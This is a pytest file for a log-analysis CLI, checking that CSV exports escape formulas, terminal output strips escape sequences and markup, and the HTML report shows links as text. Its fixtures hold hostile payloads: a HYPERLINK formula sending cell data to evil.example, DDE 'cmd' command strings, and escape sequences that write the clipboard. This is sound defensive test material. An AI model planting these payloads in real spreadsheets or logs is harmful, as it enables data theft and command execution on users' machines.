"""Hostile log text: every CSV output neutralizes formulas, the terminal gets no escape
sequences and no markup from data, report.html shows labels as text and stays small."""

from __future__ import annotations

import io
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from opsrca.cli import app
from opsrca.listings.samples import write_listing_samples

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
CMD = "=cmd|' /C calc'!A0"
LINK_SHOP = '<a href="http://evil.example/">shop</a>'
MARKUP_SHOP = "[red on white]fake alert[/]"
ESCAPES = "clear\x1b[2J\x1b[Hscreen\x1b]52;c;ZXZpbA==\x07bell\x07c1\x9b31mhidden\x1b[8mtext"
HUGE = "x" * 2_000_000


def _rows() -> list[dict[str, str | None]]:
    shops = [FORMULA, LINK_SHOP, MARKUP_SHOP, "@SUM(1+1)*cmd|' /C calc'!A0"]
    messages = [CMD, ESCAPES, "-2+3+cmd|' /C calc'!A0", HUGE, "token expired"]
    rows = []
    for i in range(40):
        rows.append(
            {
                "error_id": f"7301888800000{i:05d}",
                "shop_id": shops[i % len(shops)],
                "shop_name": shops[i % len(shops)],
                "region_code": "GB",
                "api_endpoint": "+/product/202309/products"
                if i % 2
                else "/product/202309/products",
                "http_status": "401" if i % 5 == 4 else "400",
                "error_code": "-1",
                "error_message": messages[i % len(messages)],
                "first_occurred_at": f"2026-11-02T02:{i:02d}:05Z",
                "retry_count": "1",
            }
        )
    return rows


@pytest.fixture(scope="module")
def analyzed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, str]:
    root = tmp_path_factory.mktemp("hostile")
    dump = root / "dump"
    dump.mkdir()
    # (written by hand: Polars reads brackets in a path as a glob)
    (dump / "tiktok [bold red]ops[blink] errors.csv").write_text(
        pl.DataFrame(_rows()).write_csv(), encoding="utf-8"
    )
    db, out = root / "t.duckdb", root / "out"
    res = runner.invoke(app, ["analyze", str(dump), "--out", str(out), "--db", str(db), "--full"])
    assert res.exit_code == 0, res.output
    return db, out, res.output


def _cells(text: str) -> list[str]:
    """Every cell as a spreadsheet would read it (Polars: no field-size limit)."""
    frame = pl.read_csv(io.StringIO(text.lstrip("\ufeff")), infer_schema=False)
    return [c for col in frame.iter_columns() for c in col.to_list() if c is not None]


def _assert_no_live_formula(text: str) -> None:
    cells = _cells(text)
    assert cells, "empty CSV"
    live = [
        c[:40]
        for c in cells
        if c[:1] in ("=", "+", "@", "\t", "\r")
        or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())
    ]
    assert not live


def _run(db: Path, *args: str) -> str:
    res = runner.invoke(app, [*args, "--db", str(db)])
    assert res.exit_code == 0, res.output
    return res.output


def test_every_csv_output_neutralizes_formulas(
    analyzed: tuple[Path, Path, str], tmp_path: Path
) -> None:
    db, out, _ = analyzed
    outputs = {
        "summary.csv": (out / "summary.csv").read_text(encoding="utf-8"),
        "query": _run(
            db,
            "query",
            "SELECT shop_id, message, error_code FROM events",
            "--format",
            "csv",
            "--limit",
            "1000",
        ),
        "errors stdout": _run(db, "errors", "--limit", "0", "--format", "csv"),
    }
    for name, args in {
        "export.csv": ["export", "--table", "events", "--out"],
        "errors.csv": ["errors", "--limit", "0", "--format", "csv", "-o"],
        "health.csv": ["health", "--format", "csv", "-o"],
        "incidents.csv": [
            "incidents",
            "--format",
            "csv",
            "--min-count",
            "1",
            "--factor",
            "1",
            "-o",
        ],
    }.items():
        _run(db, *args, str(tmp_path / name))
        outputs[name] = (tmp_path / name).read_text(encoding="utf-8")
    for name, text in outputs.items():
        if name != "incidents.csv" or text.count("\n") > 1:
            _assert_no_live_formula(text)
        if name in ("export.csv", "errors.csv", "query"):
            assert "'" + CMD in _cells(text), name  # the message is kept, made inert
            assert "-1" in _cells(text), name  # a plain negative code is left as it is


def test_classify_and_listing_outputs_neutralize_formulas(tmp_path: Path) -> None:
    messages = tmp_path / "errors.csv"
    pl.DataFrame({"message": [CMD, FORMULA, "token expired"]}).write_csv(messages)
    res = runner.invoke(app, ["classify", str(messages), "--output", str(tmp_path / "c.csv")])
    assert res.exit_code == 0, res.output
    _assert_no_live_formula((tmp_path / "c.csv").read_text(encoding="utf-8"))

    samples = tmp_path / "listings"
    write_listing_samples(samples)
    listings = samples / "listings.csv"
    listings.write_text(
        listings.read_text(encoding="utf-8").replace("百应-A01", "@SUM(1+1)"), encoding="utf-8"
    )
    products = samples / "products.csv"
    products.write_text(
        products.read_text(encoding="utf-8").replace("KD-1003", CMD.replace("'", "")),
        encoding="utf-8",
    )
    for cmd, src in (("dupes", listings), ("lint", products)):
        target = tmp_path / f"{cmd}.csv"
        res = runner.invoke(app, [cmd, str(src), "-o", str(target)])
        assert res.exit_code == 0, res.output
        text = target.read_text(encoding="utf-8")
        _assert_no_live_formula(text)
        assert any(c.startswith("'=cmd") or c.startswith("'@SUM") for c in _cells(text)), cmd


def _assert_clean_terminal(text: str, *, sequences_gone: bool = True) -> None:
    for bad in ("\x1b", "\x07", "\x9b"):
        assert bad not in text, repr(bad)
    if sequences_gone:  # JSON keeps the rest of a sequence, inert, after its \u001b escape
        assert "52;c;" not in text and "[2J" not in text


def test_terminal_gets_no_escape_sequences(analyzed: tuple[Path, Path, str]) -> None:
    db, _, analyze_out = analyzed
    # analyze shows templates: the normalizer already dropped ESC there, leaving inert text
    _assert_clean_terminal(analyze_out, sequences_gone=False)
    assert "clearscreen" in _run(db, "errors", "--limit", "0", "--format", "csv")
    for args in (
        ("errors", "--limit", "0"),
        ("health",),
        ("query", "SELECT shop_id, message FROM events"),
    ):
        _assert_clean_terminal(_run(db, *args))
    shown = _run(db, "show", "730188880000000001")
    assert "clearscreenbellc131mhiddentext" in shown.replace("\n", "").replace("│", "").replace(
        " ", ""
    )
    _assert_clean_terminal(shown, sequences_gone=False)  # the template line keeps inert residue
    for args in (
        ("errors", "--limit", "0", "--format", "json"),
        ("query", "SELECT message FROM events", "--format", "csv"),
    ):
        _assert_clean_terminal(_run(db, *args), sequences_gone=False)


def test_markup_in_data_and_file_names_is_shown_as_text(analyzed: tuple[Path, Path, str]) -> None:
    db, _, analyze_out = analyzed
    assert "red]ops[blink]" in analyze_out  # the ingest table wraps the file name
    assert MARKUP_SHOP in analyze_out  # the overview's shop column
    assert MARKUP_SHOP in _run(db, "show", "730188880000000002")


def test_report_labels_are_text_and_huge_messages_are_cut(analyzed: tuple[Path, Path, str]) -> None:
    _, out, _ = analyzed
    report = (out / "report.html").read_text(encoding="utf-8")
    assert '<a href="http://evil.example/">' not in report
    assert "http://evil.example/" in report  # shown, as text
    assert "x" * 600 not in report
    assert len(report) < 8_000_000  # plotly.js inlined (~4.6 MB); the 2 MB message is not in it
